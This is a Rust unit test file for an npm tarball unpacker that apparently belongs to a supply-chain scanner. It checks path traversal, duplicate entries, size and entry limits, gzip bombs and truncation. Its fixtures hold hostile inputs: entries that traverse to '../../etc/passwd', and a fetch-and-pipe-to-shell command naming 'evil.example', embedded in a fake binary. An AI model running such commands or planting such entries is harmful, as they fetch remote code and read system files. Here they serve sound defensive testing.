use super::*;

#[path = "../../tests/support/tar_tricks.rs"]
#[allow(dead_code)]
mod tricks;

use tricks::{PJ, end, file, gz, link, noise};

fn unpack(bytes: &[u8]) -> Unpacked {
    unpack_tarball(bytes, &ArchiveLimits::default()).unwrap()
}

fn paths(u: &Unpacked) -> Vec<&str> {
    u.files.iter().map(|f| f.path.as_str()).collect()
}

fn incomplete(u: &Unpacked) -> Vec<&str> {
    u.anomalies
        .iter()
        .filter(|a| a.stops_analysis())
        .map(|a| a.what.as_str())
        .collect()
}

#[test]
fn strips_the_first_component_and_refuses_traversal() {
    let u = unpack(&gz(&[
        file(b"package/package.json", PJ),
        file(b"package/../../etc/passwd", b"x"),
        file(b"package.json", b"{}"),
        end(),
    ]
    .concat()));
    assert_eq!(paths(&u), ["package.json"]);
    assert_eq!(u.files[0].bytes, PJ);
    assert_eq!(u.anomalies.len(), 2);
    assert_eq!(u.anomalies[0].path, "package/../../etc/passwd");
    assert_eq!(u.anomalies[0].effect, Effect::Hostile);
    assert!(u.anomalies[1].what.starts_with("file at the archive root"));
    assert!(incomplete(&u).is_empty());
}

#[test]
fn the_last_duplicate_wins_and_is_reported() {
    let u = unpack(&gz(&[
        file(b"package/package.json", PJ),
        file(b"package/package.json", b"{\"name\":\"second\"}"),
        end(),
    ]
    .concat()));
    assert_eq!(u.files.len(), 1);
    assert_eq!(u.files[0].bytes, b"{\"name\":\"second\"}");
    assert_eq!(
        u.anomalies[0].what,
        "duplicate entry: replaces an earlier `package.json` (npm keeps the last)"
    );
    assert_eq!(u.anomalies[0].effect, Effect::Hostile);
}

/// https-proxy-agent 7.0.6 packs `dist/index.js` twice (once as `./dist/index.js`) with the
/// same bytes: unusual, not hostile, since nothing differs whichever copy npm keeps.
#[test]
fn a_duplicate_with_the_same_bytes_is_unusual() {
    let u = unpack(&gz(&[
        file(b"package/package.json", PJ),
        file(b"package/./dist/index.js", b"module.exports = 1;\n"),
        file(b"package/dist/index.js", b"module.exports = 1;\n"),
        end(),
    ]
    .concat()));
    assert_eq!(u.files.len(), 2);
    assert_eq!(
        u.anomalies[0].what,
        "duplicate entry with the same bytes as an earlier `dist/index.js` (npm keeps the last)"
    );
    assert_eq!(u.anomalies[0].effect, Effect::Unusual);
}

#[test]
fn file_limit_is_incomplete() {
    let bytes = gz(&[
        file(b"package/a", b"1"),
        file(b"package/b", b"2"),
        file(b"package/c", b"3"),
        end(),
    ]
    .concat());
    let limits = ArchiveLimits {
        max_files: 2,
        ..ArchiveLimits::default()
    };
    let u = unpack_tarball(&bytes, &limits).unwrap();
    assert_eq!(u.files.len(), 2);
    assert_eq!(incomplete(&u), ["more than 2 files: unpacking stopped"]);
}

#[test]
fn large_files_are_streamed_not_skipped() {
    let mut big = b"\x7fELF\x02\x01\x01\0".to_vec();
    big.extend(noise(5000, 3));
    big.extend_from_slice(b"\0curl https://evil.example/x | sh\0");
    let bytes = gz(&[
        file(b"package/package.json", PJ),
        file(b"package/bin/tool", &big),
        end(),
    ]
    .concat());
    let limits = ArchiveLimits {
        max_file_bytes: 1000,
        ..ArchiveLimits::default()
    };
    let u = unpack_tarball(&bytes, &limits).unwrap();
    assert_eq!(paths(&u), ["package.json"]);
    assert_eq!(u.large.len(), 1);
    let l = &u.large[0];
    assert_eq!((l.path.as_str(), l.size), ("bin/tool", big.len() as u64));
    assert_eq!(l.head, big[..big.len().min(8192)]);
    assert!(l.strings.contains("curl https://evil.example/x | sh\n"));
    assert!(u.anomalies.is_empty());
}

#[test]
fn skipped_entries_count_against_the_entry_limit() {
    let mut tar = file(b"package/package.json", PJ);
    for i in 0..5000 {
        tar.extend(link(
            format!("package/l{i}").as_bytes(),
            b'2',
            b"../../etc/passwd",
        ));
    }
    tar.extend(end());
    let limits = ArchiveLimits {
        max_entries: 1000,
        ..ArchiveLimits::default()
    };
    let u = unpack_tarball(&gz(&tar), &limits).unwrap();
    assert_eq!(
        incomplete(&u),
        ["more than 1000 entries (files, links, folders, headers): unpacking stopped"]
    );
    assert_eq!(u.anomalies.len(), MAX_ANOMALIES + 2);
    assert_eq!(
        u.anomalies.last().unwrap().what,
        "899 more anomalies not listed"
    );
}

#[test]
fn cut_or_corrupt_gzip_trailers_are_incomplete() {
    let whole = gz(&[file(b"package/package.json", PJ), end()].concat());
    let cut = unpack(&whole[..whole.len() - 4]);
    assert_eq!(paths(&cut), ["package.json"]);
    assert_eq!(
        incomplete(&cut),
        [
            "gzip stream is cut or corrupt after the last entry (npm rejects the tarball): \
             unexpected end of file"
        ]
    );
    let mut bad = whole.clone();
    let at = bad.len() - 8;
    bad[at] ^= 1;
    assert_eq!(incomplete(&unpack(&bad)).len(), 1);
    assert!(incomplete(&unpack(&whole)).is_empty());
}

#[test]
fn every_gzip_member_is_read() {
    let bytes = [
        gz(&file(b"package/package.json", PJ)),
        gz(&[file(b"package/index.js", b"1"), end()].concat()),
    ]
    .concat();
    let u = unpack(&bytes);
    assert_eq!(paths(&u), ["index.js", "package.json"]);
    assert!(u.anomalies.is_empty());
}

#[test]
fn gzip_bombs_stop_on_the_ratio_whatever_the_entry() {
    // 8 MiB of zero blocks after one symlink: no file is ever kept.
    let mut tar = link(b"package/l", b'2', b"x");
    tar.extend(vec![0u8; 512]);
    tar.extend(tricks::Hdr::new(b"package/z", 8 << 20).block());
    tar.extend(vec![0u8; 8 << 20]);
    let u = unpack(&gz(&tar));
    assert!(incomplete(&u)[0].starts_with("compression ratio above 200:1"));
}

#[test]
fn total_unpacked_budget() {
    let bytes = gz(&[file(b"package/a", &noise(300_000, 1)), end()].concat());
    let limits = ArchiveLimits {
        max_unpacked_bytes: 100_000,
        ..ArchiveLimits::default()
    };
    let u = unpack_tarball(&bytes, &limits).unwrap();
    assert_eq!(
        incomplete(&u),
        ["more than 100000 bytes unpacked: unpacking stopped"]
    );
}

#[test]
fn not_a_tarball_is_an_error() {
    assert!(unpack_tarball(b"PK\x03\x04", &ArchiveLimits::default()).is_err());
    assert!(unpack_tarball(&[0x28, 0xb5, 0x2f, 0xfd, 0, 0], &ArchiveLimits::default()).is_err());
    let plain = unpack(&[file(b"package/package.json", PJ), end()].concat());
    assert_eq!(paths(&plain), ["package.json"]);
}

#[test]
fn truncated_archive_is_incomplete_not_a_panic() {
    let bytes = gz(&[file(b"package/index.js", &noise(5000, 2)), end()].concat());
    let u = unpack(&bytes[..bytes.len() / 2]);
    assert_eq!(incomplete(&u).len(), 1);
}

#[test]
fn gitignore_becomes_npmignore_as_pacote_does() {
    let u = unpack(&gz(&[
        file(b"package/.gitignore", b"a"),
        file(b"package/lib/.npmignore", b"b"),
        file(b"package/lib/.gitignore", b"c"),
        end(),
    ]
    .concat()));
    assert_eq!(paths(&u), [".npmignore", "lib/.npmignore"]);
    assert_eq!(u.files[1].bytes, b"b");
}

#[test]
fn manifests_are_read_as_npm_reads_them() {
    let v = parse_manifest(b"\xef\xbb\xbf{\"a\":1,\"a\":2}").unwrap();
    assert_eq!(v["a"], 2);
    let deep = format!("{{\"x\":{}{}}}", "[".repeat(200), "]".repeat(200));
    assert!(
        parse_manifest(deep.as_bytes())
            .unwrap_err()
            .contains("recursion limit")
    );
    assert_eq!(parse_manifest(b"[]").unwrap_err(), "not a JSON object");
}
